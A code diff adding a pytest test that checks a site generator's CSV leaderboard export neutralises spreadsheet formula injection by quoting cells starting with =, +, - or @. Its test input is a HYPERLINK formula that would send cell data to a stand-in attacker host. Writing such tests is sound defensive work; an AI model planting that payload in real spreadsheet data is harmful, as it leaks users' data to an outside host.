@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import json
 import re
 from pathlib import Path
@@ -178,3 +179,21 @@ def test_json_ld_holds_no_markup_whatever_the_names_and_answers(make_site, tmp_p
     # the page's only script elements are the theme's, and the page text is all there
     assert html.count("<script") == 1 and "<!--<script>" not in html
     assert html.rstrip().endswith("</html>")
+
+
+# -- 6. spreadsheet formulas -----------------------------------------------------------------------
+
+
+# (a tab or CR at the start of a field is stripped when the record is read; test_datafiles.py)
+@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
+def test_csv_cells_that_would_start_a_formula_get_a_quote(make_site, tmp_path, start) -> None:
+    engine = f'{start}HYPERLINK("https://evil.example/?"&A1,"x")'
+    site = make_site(runs={"lab/run.yaml": sweep(engine=engine, precision=f"{start}fp8")})
+    assert sitegen("build", "--site", site, "--out", tmp_path / "out").exit_code == 0
+    (row,) = list(csv.DictReader((tmp_path / "out/data/leaderboard.csv").open(newline="")))
+    assert row["engine"] == "'" + engine
+    assert row["precision"] == f"'{start}fp8"
+    assert row["model"] == "m1" and float(row["throughput_per_gpu"]) > 0
+    # the JSON download keeps the value as it is: JSON is not read as formulas
+    (entry,) = json.loads((tmp_path / "out/data/leaderboard.json").read_text())
+    assert entry["engine"] == engine
